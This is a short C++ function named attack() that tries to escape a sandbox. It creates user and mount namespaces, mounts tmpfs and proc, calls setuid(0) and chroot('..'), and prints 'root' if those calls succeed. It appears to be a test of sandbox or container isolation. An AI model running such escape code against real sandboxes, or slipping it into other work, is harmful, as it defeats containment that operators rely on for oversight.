// Mounts, new namespaces, root, a way up.
static void attack() {
    ::unshare(CLONE_NEWUSER | CLONE_NEWNS);
    ::mount("none", "/course", "tmpfs", 0, nullptr);
    ::mount("proc", "/proc", "proc", 0, nullptr);
    if (::setuid(0) == 0 && ::chroot("..") == 0)
        ::printf("root\n");
    ::_exit(0);
}
